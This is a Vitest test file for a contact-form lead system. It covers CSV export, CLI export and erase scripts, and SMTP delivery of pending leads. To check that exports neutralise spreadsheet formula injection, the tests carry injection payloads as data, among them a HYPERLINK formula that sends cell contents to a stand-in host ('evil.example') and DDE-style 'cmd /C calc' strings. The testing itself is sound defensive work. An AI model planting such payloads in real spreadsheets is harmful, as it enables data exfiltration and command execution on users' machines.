// @vitest-environment node
import { execFile } from 'node:child_process';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { payloadFingerprint } from '../../functions/send-contact-email/fingerprint.ts';
import { openNodeLeadStore } from '../../functions/send-contact-email/node.ts';
import type { LeadStore, StoredLead } from '../../functions/send-contact-email/store.ts';
import { csvField, leadsToCsv } from '../../functions/send-contact-email/lead-export.ts';
import { parseLeadsCommand } from '../../scripts/leads.ts';
import type { ContactFormPayload, ContactPayload } from '../../schema/contact.ts';
import { smtpEnv } from './support/host.ts';
import {
  contactFormPayload,
  localSeoPackagePayload,
  photoVideoPackagePayload,
  socialMediaPackagePayload,
  sportPackagePayload,
  websitePackagePayload,
} from './support/payloads.ts';
import { startSmtpServer } from './support/smtp.ts';

// Every test runs real servers, a SQLite worker thread and SMTP sessions: seconds on a busy machine.
vi.setConfig({ testTimeout: 30_000, hookTimeout: 30_000 });

const run = promisify(execFile);
const TSX = join(process.cwd(), 'node_modules', 'tsx', 'dist', 'cli.mjs');

function runScript(script: string, args: string[], env: Record<string, string> = {}) {
  return run(process.execPath, [TSX, join(process.cwd(), 'scripts', script), ...args], {
    env: { ...process.env, LOG_LEVEL: 'silent', ...env },
  });
}

/**
 * Reads CSV as Excel does, with the separator it was told to use: a quote opens a quoted field only at
 * the start of a field ("" inside is one quote); after the closing quote, what follows up to the next
 * separator is taken as it is; outside quotes a line break (CRLF, LF or CR) ends the row.
 */
function parseCsv(text: string, separator: ',' | ';' = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let atFieldStart = true;
  let quoted = false;
  const endField = () => {
    row.push(field);
    field = '';
    atFieldStart = true;
  };
  for (let index = 0; index < text.length; index += 1) {
    const character = text[index] ?? '';
    if (quoted) {
      if (character === '"' && text[index + 1] === '"') {
        field += '"';
        index += 1;
      } else if (character === '"') quoted = false;
      else field += character;
      continue;
    }
    if (atFieldStart && character === '"') {
      quoted = true;
      atFieldStart = false;
    } else if (character === separator) endField();
    else if (character === '\r' || character === '\n') {
      if (character === '\r' && text[index + 1] === '\n') index += 1;
      endField();
      rows.push(row);
      row = [];
    } else {
      field += character;
      atFieldStart = false;
    }
  }
  if (field !== '' || row.length > 0) {
    endField();
    rows.push(row);
  }
  return rows;
}

const trickyPayload: ContactFormPayload = {
  ...contactFormPayload,
  nome: 'Rossi, Mario',
  azienda: 'Bar "Da Gino"',
  messaggio: 'Prima riga\nseconda riga, con virgola\r\nterza "citata"',
};

function storedLead(payload: ContactPayload, overrides: Partial<StoredLead> = {}): StoredLead {
  return {
    id: '00000000-0000-4000-8000-000000000001',
    receivedAt: '2025-01-15T13:00:01.000Z',
    type: payload.type,
    payload,
    payloadHash: 'hash',
    deliveryStatus: 'delivered',
    attempts: 1,
    nextAttemptAt: null,
    lastAttemptAt: '2025-01-15T13:00:02.000Z',
    lastError: null,
    deliveredAt: '2025-01-15T13:00:02.000Z',
    status: 'new',
    spamReasons: [],
    note: '',
    updatedAt: null,
    visitorReply: null,
    newsletterConsent: null,
    ...overrides,
  };
}

describe('CSV export', () => {
  it('quotes every cell, doubling inner quotes', () => {
    expect(csvField('semplice')).toBe('"semplice"');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('Bar "Da Gino"')).toBe('"Bar ""Da Gino"""');
    expect(csvField('riga\nnuova')).toBe('"riga\nnuova"');
    expect(csvField('')).toBe('""');
  });

  it('turns every cell a spreadsheet would run as a formula into text, as a CSV parser reads it back', () => {
    const formulas = [
      '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")',
      "+SUM(1+1)*cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      '@SUM(1+1)',
      '\t=1+1',
      '\r=1+1',
    ] as const;
    const hostile: ContactFormPayload = {
      ...contactFormPayload,
      nome: formulas[0],
      azienda: formulas[1],
      telefono: formulas[2],
      messaggio: formulas[3],
      origine: formulas[4],
    };
    const withCarriageReturn: ContactFormPayload = { ...contactFormPayload, nome: formulas[5] };

    const [, first, second] = parseCsv(leadsToCsv([storedLead(hostile), storedLead(withCarriageReturn)]).slice(1));

    expect(first?.[6]).toBe(`'${formulas[0]}`);
    expect(first?.[8]).toBe(`'${formulas[1]}`);
    expect(first?.[10]).toBe(`'${formulas[2]}`);
    expect(first?.[12]).toBe(`'${formulas[3]}`);
    expect(first?.[13]).toBe(`'${formulas[4]}`);
    // After the carriage return a row may start in a spreadsheet that reads ";" (see below): that line is made inert too.
    expect(second?.[6]).toBe(`'\r'=1+1`);
    for (const cell of [...(first ?? []), ...(second ?? [])]) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('is safe opened with "," or with ";" as the separator (Excel in Italian): no cell starts a formula', () => {
    const values = [
      'Rossi;=1+1;',
      'Rossi;=HYPERLINK("http://evil.example";"Clicca")',
      'a;"=1+1"',
      'a; "=1+1"',
      'a;  +39 030 1234',
      ';@SUM(A1:A9)',
      'x;\t=1+1',
      'x;-2+3',
      'Prima riga\n=1+1',
      'Prima riga\r\n+1',
      'Prima riga\r-1',
      'Prima riga\n\n@A1',
      'fine;',
      'fine;"',
      'fine\n',
      'fine;  ',
      '"=1+1";=2',
      'ok, "=1+1", ok',
      '=1+1;=2+2\n=3+3',
    ];
    const leads = values.map((value, index) =>
      storedLead(
        { ...contactFormPayload, nome: value, azienda: value, messaggio: value, origine: `Pagina Contatti - ${value}` },
        { id: `00000000-0000-4000-8000-${String(index).padStart(12, '0')}`, note: value },
      ),
    );
    const csv = leadsToCsv(leads).slice(1);

    for (const separator of [',', ';'] as const) {
      const cells = parseCsv(csv, separator).flat();
      expect(cells.length).toBeGreaterThan(values.length);
      expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    }
    // With "," every value comes back whole, each break neutralised by its apostrophe.
    const [, first] = parseCsv(csv, ',');
    expect(first?.[6]).toBe("Rossi;'=1+1;'");
  });

  it('writes a header row and one row per lead', () => {
    const csv = leadsToCsv([storedLead(trickyPayload, { status: 'spam', spamReasons: ['links', 'fast'], note: 'Già "cliente"' })]);

    expect(csv).toBe(
      '\uFEFF"id","received_at","type","delivery_status","attempts","delivered_at","nome","cognome","azienda","email","telefono",' +
        '"pacchetto","messaggio","origine","timestamp","status","spam_reasons","note"\r\n' +
        '"00000000-0000-4000-8000-000000000001","2025-01-15T13:00:01.000Z","Contatto dal Sito","delivered","1","2025-01-15T13:00:02.000Z",' +
        '"Rossi, Mario","","Bar ""Da Gino""","anna.neri@example.com","\'+39 030 123 4567","",' +
        '"Prima riga\nseconda riga, con virgola\r\nterza ""citata""","Pagina Contatti - http://localhost:4173/contatti","2025-01-15T13:00:00.000Z",' +
        '"spam","link nel messaggio; inviato meno di 4 secondi dopo l’apertura della pagina","Già ""cliente"""\r\n',
    );
    const [header, row] = parseCsv(csv.slice(1));
    expect(header).toHaveLength(18);
    expect(row?.[6]).toBe('Rossi, Mario');
    expect(row?.[8]).toBe('Bar "Da Gino"');
    expect(row?.[12]).toBe(trickyPayload.messaggio);
  });

  it('reads the command line: date-only --until includes that day; --person and --erase take one address', () => {
    expect(parseLeadsCommand(['--since', '2025-01-01', '--until', '2025-01-31', '--format', 'json'], {})).toEqual({
      action: 'export',
      range: { since: new Date('2025-01-01T00:00:00.000Z'), until: new Date('2025-02-01T00:00:00.000Z') },
      format: 'json',
      databaseUrl: 'file:data/leads.db',
    });
    expect(parseLeadsCommand([], { LEADS_DB_URL: 'file:/srv/leads.db' })).toMatchObject({
      action: 'export',
      range: { since: undefined, until: undefined },
      format: 'csv',
      databaseUrl: 'file:/srv/leads.db',
    });
    expect(parseLeadsCommand(['--erase', ' Mario@Example.com '], {})).toEqual({
      action: 'erase',
      email: 'Mario@Example.com',
      databaseUrl: 'file:data/leads.db',
    });
    expect(parseLeadsCommand(['--person', 'mario@example.com', '--db', 'file:x.db'], {})).toMatchObject({ action: 'person' });
    expect(() => parseLeadsCommand(['--format', 'xml'], {})).toThrow('--format must be csv or json, not "xml".');
    expect(() => parseLeadsCommand(['--since', '31/01/2025'], {})).toThrow(
      '--since must be a date like 2025-01-31 or a date-time like 2025-01-31T18:00:00Z, not "31/01/2025".',
    );
    expect(() => parseLeadsCommand(['--erase', 'a@example.com', '--person', 'a@example.com'], {})).toThrow(
      '--person and --erase take one e-mail address, alone',
    );
    expect(() => parseLeadsCommand(['--erase', 'mario'], {})).toThrow('--erase needs an e-mail address, not "mario".');
  });
});

describe('the command-line scripts on a real database', () => {
  let directory: string;
  let databaseUrl: string;
  let store: LeadStore;

  async function insert(payload: ContactPayload, receivedAt: string, deliveryStatus: 'pending' | 'not_configured') {
    const id = crypto.randomUUID();
    await store.insertLead(
      { id, receivedAt: new Date(receivedAt), payload, payloadHash: await payloadFingerprint(payload), deliveryStatus },
      new Date(receivedAt),
    );
    return id;
  }

  beforeEach(async () => {
    directory = await mkdtemp(join(tmpdir(), 'lead-scripts-'));
    databaseUrl = `file:${join(directory, 'leads.db')}`;
    store = await openNodeLeadStore({ url: databaseUrl });
  });

  afterEach(async () => {
    await store.close();
    await rm(directory, { recursive: true, force: true });
  });

  it('npm run leads exports the leads of the requested days as CSV and JSON', async () => {
    await insert(photoVideoPackagePayload, '2024-12-31T23:59:59.000Z', 'pending');
    const inRange = await insert(trickyPayload, '2025-01-15T13:00:01.000Z', 'pending');
    await insert(contactFormPayload, '2025-02-01T00:00:00.000Z', 'pending');
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")';
    const hostile = await insert({ ...contactFormPayload, nome: formula }, '2025-01-16T09:00:00.000Z', 'pending');

    const csv = await runScript('leads.ts', ['--since', '2025-01-01', '--until', '2025-01-31', '--format', 'csv', '--db', databaseUrl]);
    const json = await runScript('leads.ts', ['--since', '2025-01-01', '--until', '2025-01-31', '--format', 'json'], {
      LEADS_DB_URL: databaseUrl,
    });

    const rows = parseCsv(csv.stdout.replace(/^\uFEFF/, ''));
    expect(rows).toHaveLength(3);
    expect(rows[1]?.[0]).toBe(inRange);
    expect(rows[1]?.[12]).toBe('Prima riga\nseconda riga, con virgola\r\nterza "citata"');
    expect(rows[2]?.[0]).toBe(hostile);
    expect(rows[2]?.[6]).toBe(`'${formula}`);
    expect(JSON.parse(json.stdout)).toEqual([
      {
        id: inRange,
        receivedAt: '2025-01-15T13:00:01.000Z',
        type: 'Contatto dal Sito',
        status: 'new',
        spamReasons: [],
        note: '',
        updatedAt: null,
        deliveryStatus: 'pending',
        attempts: 0,
        deliveredAt: null,
        payload: trickyPayload,
        visitorReply: null,
        newsletterConsent: null,
      },
      expect.objectContaining({ id: hostile, payload: { ...contactFormPayload, nome: formula } }),
    ]);
  });

  it('npm run leads lists the package requests of every page under their own types', async () => {
    const packages = [
      photoVideoPackagePayload,
      socialMediaPackagePayload,
      websitePackagePayload,
      localSeoPackagePayload,
      sportPackagePayload,
    ];
    for (const [index, payload] of packages.entries()) await insert(payload, `2025-01-15T12:0${index}:00.000Z`, 'pending');

    const csv = await runScript('leads.ts', ['--since', '2025-01-15', '--db', databaseUrl]);

    const rows = parseCsv(csv.stdout.replace(/^\uFEFF/, '')).slice(1);
    expect(rows.map((row) => [row[2], row[11], row[13]])).toEqual(
      packages.map((payload) => [payload.type, payload.pacchetto, payload.origine]),
    );
  });

  it('npm run leads -- --person gives everything stored under one address, and --erase deletes it and says what went', async () => {
    const address = 'marco@rossi.example.com';
    const first = await insert(photoVideoPackagePayload, '2025-01-10T08:00:00.000Z', 'pending');
    const second = await insert({ ...contactFormPayload, email: 'Marco@Rossi.example.com' }, '2025-01-12T08:00:00.000Z', 'pending');
    const someoneElse = await insert(contactFormPayload, '2025-01-12T09:00:00.000Z', 'pending');
    await store.updateLead(first, { status: 'in_progress', note: 'Richiamare lunedì' }, new Date('2025-01-11T08:00:00.000Z'));

    const person = await runScript('leads.ts', ['--person', address, '--db', databaseUrl]);
    const erased = await runScript('leads.ts', ['--erase', address, '--db', databaseUrl]);
    const again = await runScript('leads.ts', ['--erase', address, '--db', databaseUrl]);
    const afterwards = await runScript('leads.ts', ['--person', address, '--db', databaseUrl]);

    const exported = JSON.parse(person.stdout);
    expect(exported).toMatchObject({ email: address, exportedAt: expect.any(String) });
    expect(exported.leads).toEqual([
      expect.objectContaining({ id: first, status: 'in_progress', note: 'Richiamare lunedì', payload: photoVideoPackagePayload }),
      // Stored with its mailbox as typed and its domain in lower case.
      expect.objectContaining({ id: second, payload: { ...contactFormPayload, email: 'Marco@rossi.example.com' } }),
    ]);
    expect(erased.stdout).toBe(
      [
        `Cancellati 2 contatti dell’indirizzo ${address}:`,
        `  2025-01-10T08:00:00.000Z  Richiesta Pacchetto Foto/Video  (${first})`,
        `  2025-01-12T08:00:00.000Z  Contatto dal Sito  (${second})`,
        'Le e-mail di notifica già arrivate nella casella dell’agenzia restano lì: cancellale a mano.',
        '',
      ].join('\n'),
    );
    expect(again.stdout).toBe(`Nessun contatto salvato con l’indirizzo ${address}: non c’era nulla da cancellare.\n`);
    expect(JSON.parse(afterwards.stdout).leads).toEqual([]);
    expect(await store.getLead(first)).toBeUndefined();
    expect(await store.getLead(someoneElse)).toBeDefined();
  });

  it('npm run leads refuses a database file that does not exist', async () => {
    const missing = `file:${join(directory, 'missing.db')}`;

    await expect(runScript('leads.ts', ['--db', missing])).rejects.toMatchObject({
      code: 2,
      stderr: expect.stringContaining('There is no leads database at'),
    });
  });

  it('npm run deliver:pending mails the waiting leads once', async () => {
    const kept = await insert(contactFormPayload, '2025-01-15T13:00:01.000Z', 'not_configured');
    const retryLater = await insert(photoVideoPackagePayload, '2025-01-15T13:00:02.000Z', 'pending');
    const [claimed] = await store.claimDueLeads({ now: new Date(), claimDurationMs: 1, limit: 1, leadId: retryLater });
    await store.markFailed(retryLater, claimed?.claimToken ?? '', {
      at: new Date(),
      error: 'ECONNECTION: refused',
      nextAttemptAt: new Date(Date.now() + 3_600_000),
    });
    const smtp = await startSmtpServer();
    try {
      const env = { ...smtpEnv(smtp.port), LEADS_DB_URL: databaseUrl };

      const scheduled = await runScript('deliver-pending.ts', [], env);
      const forced = await runScript('deliver-pending.ts', ['--now'], env);

      expect(scheduled.stdout).toContain('Delivered 1, failed 0; still waiting: 1 pending, 0 kept without SMTP.');
      expect(forced.stdout).toContain('Delivered 1, failed 0; still waiting: 0 pending, 0 kept without SMTP.');
      expect(smtp.messages.map((mail) => mail.subject)).toEqual([
        '[Sito] Contatto dal Sito – Anna Neri',
        '[Sito] Richiesta Pacchetto Foto/Video – Marco Rossi',
      ]);
      expect((await store.getLead(kept))?.deliveryStatus).toBe('delivered');
      expect((await store.getLead(retryLater))?.attempts).toBe(2);
    } finally {
      await smtp.close();
    }
  });
});
